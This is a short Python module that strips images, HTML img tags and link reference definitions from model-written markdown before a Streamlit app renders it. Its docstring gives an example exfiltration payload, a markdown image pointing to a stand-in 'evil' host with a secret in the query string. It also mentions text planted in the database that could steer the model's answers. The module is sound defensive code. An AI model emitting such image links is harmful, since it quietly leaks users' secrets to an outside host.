"""Make model-written markdown safe to render: no images the viewer's browser would fetch.

A markdown image is a zero-click exfiltration channel (``![x](https://evil/?q=<secret>)`` is fetched as soon
as the answer renders), and answers can carry text planted in the database.  Images become a plain note;
raw HTML is already off in Streamlit's markdown.
"""

from __future__ import annotations

import re

# ![alt](url "title") and reference-style ![alt][ref]; also <img ...> in case HTML rendering is ever enabled.
_INLINE_IMAGE = re.compile(r"!\[([^\]\n]{0,200})\]\s*(\([^)\n]*\)|\[[^\]\n]*\])")
_HTML_IMAGE = re.compile(r"<\s*img\b[^>]*>", re.IGNORECASE)
_REF_DEFINITION = re.compile(r"^\s{0,3}\[[^\]\n]+\]:\s*\S+.*$", re.MULTILINE)


def safe_markdown(text: str) -> str:
    """``text`` with images replaced by "[image removed: alt]" and link reference definitions dropped."""
    text = _INLINE_IMAGE.sub(lambda m: f"[image removed: {m.group(1).strip() or 'no description'}]", text)
    text = _HTML_IMAGE.sub("[image removed]", text)
    return _REF_DEFINITION.sub("", text)
